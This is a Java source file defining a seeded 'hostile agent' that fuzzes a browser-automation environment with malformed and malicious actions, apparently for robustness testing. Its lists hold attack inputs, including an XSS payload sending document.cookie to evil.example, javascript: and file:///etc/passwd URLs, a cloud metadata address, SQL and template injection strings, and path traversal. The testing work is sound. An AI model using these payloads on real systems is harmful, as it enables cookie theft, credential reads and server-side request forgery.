package dev.tiltyard.env.episode;

import dev.tiltyard.env.observation.Observation;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;

/**
 * A malicious or confused agent: its replies try to break parsers, browsers and sandboxes, mixed with sensible actions
 * so that it gets around. The same seed gives the same replies on the same pages.
 */
final class HostileAgent {
    private static final List<String> ADDRESSES = List.of(
            "javascript:alert(1)",
            "javascript:while(true){}",
            "JaVaScRiPt:document.title='x'",
            "file:///etc/passwd",
            "file://localhost/proc/self/environ",
            "data:text/html,<script>location='http://evil.example'</script>",
            "chrome://crash",
            "chrome://settings",
            "view-source:http://localhost/",
            "about:blank",
            "about:srcdoc",
            "blob:null/1",
            "ws://evil.example/",
            "http://evil.example/?leak=1",
            "https://example.com:8443/",
            "http://127.0.0.1:22/",
            "http://[::1]:5432/",
            "http://0.0.0.0/",
            "http://169.254.169.254/latest/meta-data/",
            "http://localhost@evil.example/",
            "http://localhost\\@evil.example/",
            "//evil.example",
            "http://",
            "http://%00/",
            "http://exa mple/",
            "HTTP://EVIL.EXAMPLE",
            "http://xn--/",
            "ftp://evil.example/file",
            "mailto:root@localhost",
            " ",
            "\u0000");
    private static final List<String> KEYS = List.of(
            "Enter",
            "Tab",
            "Escape",
            "Control+a",
            "Control+w",
            "Control+t",
            "Control+n",
            "Control+Shift+i",
            "F12",
            "F5",
            "Alt+F4",
            "Alt+ArrowLeft",
            "Meta+a",
            "Control+p",
            "Control+o",
            "Control+u",
            "Shift+Tab",
            "Control+Shift+w",
            "Ctrl+v",
            "",
            "+",
            "++",
            "NoSuchKey",
            "Control+",
            "\uD83D\uDE00",
            "Control+\u0000",
            "PageDown",
            "Delete",
            "Backspace",
            "ArrowDown");
    private static final List<String> TEXTS = List.of(
            "hello",
            "\uD83D\uDE00\uD83D\uDC69\u200D\uD83D\uDE80",
            "\u0000\u0001\u0007\u001b[31m",
            "\t\r\n\u2028\u2029",
            "\uD800",
            "\u202Egnirts\u202C",
            "it\u2019s \u2014 \u6F22\u5B57",
            "'; DROP TABLE users; --",
            "<script>fetch('http://evil.example/'+document.cookie)</script>",
            "</textarea><img src=http://evil.example/x onerror=alert(1)>",
            "] [1] click [1]",
            "\\\" + '' + \"",
            "{{7*7}}${7*7}",
            "../../../../etc/passwd",
            "\u0301".repeat(500));

    private final Random random;
    private final List<String> addresses;

    /** @param addresses additional URLs that it tries to reach */
    HostileAgent(long seed, List<String> addresses) {
        this.random = new Random(seed);
        this.addresses = Stream.concat(ADDRESSES.stream(), addresses.stream()).toList();
    }

    /** Its next reply to this observation. */
    String reply(Observation observation) {
        return switch (random.nextInt(10)) {
            case 0, 1, 2 -> sensible(observation);
            case 3 -> "goto [" + any(addresses) + "]";
            case 4 -> call(observation);
            case 5 -> "press [" + any(KEYS) + "]";
            case 6 -> "type [" + bid(observation) + "] [" + text() + "] [" + any(List.of("0", "1", "2", "")) + "]";
            case 7 -> mutated(sensible(observation));
            case 8 -> tabs();
            default -> noise();
        };
    }

    private String sensible(Observation observation) {
        return switch (random.nextInt(7)) {
            case 0, 1, 2 -> "click [" + bid(observation) + "]";
            case 3 -> "hover [" + bid(observation) + "]";
            case 4 -> "type [" + bid(observation) + "] [" + text() + "] [" + random.nextInt(2) + "]";
            case 5 -> "scroll [" + any(List.of("up", "down")) + "]";
            default -> any(List.of("go_back", "go_forward"));
        };
    }

    private String call(Observation observation) {
        var bid = "'" + bid(observation) + "'";
        return switch (random.nextInt(12)) {
            case 0 -> "click(" + bid + ", 'right', ['Shift', 'Alt'])";
            case 1 -> "fill(" + bid + ", '" + text().replace("'", "\\'") + "')";
            case 2 -> "select_option(" + bid + ", ['a', 'b'])";
            case 3 -> "mouse_click(" + number() + ", " + number() + ")";
            case 4 -> "scroll(" + number() + ", " + number() + ")";
            case 5 -> "keyboard_press('" + any(KEYS) + "')";
            case 6 -> "goto('" + any(addresses) + "')\nclick(" + bid + ")";
            case 7 -> "drag_and_drop(" + bid + ", '" + random.nextInt() + "')";
            case 8 -> "upload_file(" + bid + ", '/etc/passwd')";
            case 9 -> "tab_focus(" + random.nextInt() + ")";
            case 10 -> "javascript('while (true) {}')";
            default -> "noop(" + random.nextInt(50) + ") " + "click(" + bid + ")".repeat(random.nextInt(5));
        };
    }

    private String tabs() {
        return any(List.of(
                "new_tab",
                "close_tab",
                "tab_focus [" + (random.nextInt(6) - 2) + "]",
                "tab_focus [99999999999999999999]",
                "new_tab()",
                "tab_close()",
                "tab_focus(" + (random.nextInt(6) - 2) + ")"));
    }

    private String noise() {
        return switch (random.nextInt(9)) {
            case 0 -> "";
            case 1 -> " \n\t ";
            case 2 -> "```click [" + random.nextInt(100) + "]```";
            case 3 -> "{\"action\": \"click\", \"bid\": " + random.nextInt() + "}";
            case 4 -> "[".repeat(random.nextInt(20_000));
            case 5 -> "click(" + "(".repeat(random.nextInt(3_000));
            case 6 ->
                random.ints(random.nextInt(200), 0, 0x3000)
                        .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append)
                        .toString();
            case 7 -> "page.get_by_role(\"" + text() + "\").click()";
            default -> "I am not sure what to do. " + text();
        };
    }

    private String mutated(String reply) {
        var text = new StringBuilder(reply);
        for (var i = random.nextInt(4); i >= 0 && text.length() > 0; i--) {
            var at = random.nextInt(text.length());
            switch (random.nextInt(4)) {
                case 0 -> text.deleteCharAt(at);
                case 1 -> text.insert(at, (char) random.nextInt(0x10000));
                case 2 -> text.insert(at, text.substring(random.nextInt(at + 1), at));
                default ->
                    text.setCharAt(
                            at,
                            any(List.of("[", "]", "(", "'", "\"", "\\", " ")).charAt(0));
            }
        }
        return text.toString();
    }

    private String bid(Observation observation) {
        var bids = List.copyOf(observation.elements().keySet());
        return switch (bids.isEmpty() ? 9 : random.nextInt(10)) {
            case 7 -> Integer.toString(random.nextInt(100_000));
            case 8 -> any(List.of("-1", "0", "a", "aaA7", "1e9", "", "\u0661\u0662", "99999999999999999999", "null"));
            case 9 -> Integer.toString(random.nextInt(50));
            default -> bids.get(random.nextInt(bids.size()));
        };
    }

    private String text() {
        return random.nextInt(25) == 0 ? "x\uD83D\uDE00".repeat(1 + random.nextInt(20_000)) : any(TEXTS);
    }

    private String number() {
        return any(List.of("0", "-1", "1e308", "-1e308", "nan", "640.5", "10", "300", "99999999999", "None", "'7'"));
    }

    private String any(List<String> choices) {
        return choices.get(random.nextInt(choices.size()));
    }
}
